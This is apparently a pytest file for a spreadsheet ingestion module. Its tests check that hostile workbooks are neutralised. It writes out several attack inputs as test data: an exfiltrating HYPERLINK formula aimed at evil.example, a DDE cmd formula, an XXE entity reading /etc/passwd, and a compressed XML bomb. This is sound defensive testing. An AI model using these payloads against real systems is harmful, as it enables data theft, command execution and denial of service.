"""XLSX, read by a real process apart."""

import re
import zipfile
from datetime import date, datetime, time
from io import BytesIO

import openpyxl
import pytest

from incidents.ingestion import apart
from tests.ingestion.formats.files import good, problems

HEADER = ["title", "published", "text"]


def workbook(*rows, sheet="Articles", more=()) -> bytes:
    book = openpyxl.Workbook()
    book.active.title = sheet
    for row in rows:
        book.active.append(row)
    for name, its_rows in more:
        page = book.create_sheet(name)
        for row in its_rows:
            page.append(row)
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def changed(data: bytes, member: str, change) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(old.read(name)) if name == member else old.read(name))
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


class TestHostile:
    def test_a_formula_is_its_text(self, upload):
        row = ['=HYPERLINK("http://evil.example/?"&A1)', "=1+1", "=cmd|' /C calc'!A0"]
        assert good(upload(workbook(HEADER, row), "a.xlsx").lines()) == [dict(zip(HEADER, row, strict=True))]

    def test_a_row_that_is_wider_than_the_header(self, upload):
        found = upload(workbook(HEADER, ["a"], ["x"] * 10_000, ["b"]), "a.xlsx").lines()
        assert problems(found) == {3: "expected 3 cells as in the header; this row has 10,000."}
        assert [cells["title"] for cells in good(found)] == ["a", "b"]

    def test_too_many_columns(self, upload):
        assert "at most 1,000 columns" in upload(workbook(["c"] * 10_000), "a.xlsx").refusal()[1]

    def test_nothing_in_it(self, upload):
        assert "is empty" in upload(workbook(), "a.xlsx").refusal()[1]

    def test_what_breaks_off_says_so_in_its_last_row(self, upload):
        rows = [["a", "b", "c"]] * 5
        data = changed(workbook(HEADER, *rows), SHEET, lambda xml: xml[: xml.index(b'<row r="5"')])
        found = upload(data, "a.xlsx").lines()
        assert len(good(found)) == 3
        assert list(problems(found)) == [5]

    def test_entities_reach_nothing(self, upload):
        entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

        def change(xml: bytes) -> bytes:
            return re.sub(rb"(<worksheet)", entity + rb"\1", xml, count=1).replace(b"<t>a</t>", b"<t>&e;</t>")

        file = upload(changed(workbook(HEADER, ["a", "b", "c"]), SHEET, change), "a.xlsx")
        found = file.lines()
        assert "root:" not in str(found)
        assert not any("a" in cells.values() for cells in good(found))  # the entity did stand in its place

    def test_a_bomb_kills_only_the_reader(self, upload, monkeypatch):
        apart._children.end()
        monkeypatch.setattr(apart, "MEMORY", 300 * 1024**2)
        bomb = b"<t>" + b"x" * 250_000_000 + b"</t>"
        data = changed(
            workbook(HEADER, ["a", "b", "c"]),
            SHEET,
            lambda xml: xml.replace(b"<t>title</t>", bomb),
        )
        assert len(data) < 1_000_000
        assert upload(data, "a.xlsx").refusal() == (
            "file",
            "expected a whole workbook; this one cannot be read (MemoryError).",
        )
        assert good(upload(workbook(HEADER, ["a", "b", "c"]), "a.xlsx").lines())
        apart._children.end()

    @pytest.mark.parametrize("member", ["xl/workbook.xml", SHEET, "xl/styles.xml"])
    def test_parts_that_are_garbage(self, upload, member):
        data = changed(workbook(HEADER, ["a", "b", "c"]), member, lambda xml: b"garbage")
        assert upload(data, "a.xlsx").refusal()[0] == "file"


def test_cells_are_words(upload):
    row = [
        5,
        1.5,
        3.0,
        True,
        datetime(2024, 1, 20, 18, 30),  # noqa: DTZ001 -- sheets know no zones
        datetime(2024, 1, 20),  # noqa: DTZ001
        date(2024, 1, 21),
        time(9, 5),
    ]
    header = ["n", "f", "w", "b", "moment", "day", "date", "time", "", "n"]
    file = upload(workbook([], header, row, [], [" x ", None, "", None, None]), "a.xlsx")
    assert file.shape().columns == (*header[:8], "column 9", "n (2)")
    found = file.lines()
    assert list(good(found)[0].values()) == [
        *("5", "1.5", "3", "true", "2024-01-20T18:30:00", "2024-01-20", "2024-01-21", "09:05:00", "", ""),
    ]
    assert [line.number for line in found] == [3, 5]
    assert good(found)[1]["n"] == "x"
    assert file.goes_on_from_every_line()


def test_the_sheet_is_chosen(upload):
    file = upload(workbook(HEADER, more=[("Other", [["text"], ["x"]])]), "a.xlsx")
    assert file.shape().sheet == "Articles"
    assert good(file.lines()) == []
    assert good(file.lines(sheet="Other")) == [{"text": "x"}]
    assert file.refusal(sheet="None") == ("sheet", "expected one of the sheets “Articles”, “Other”.")
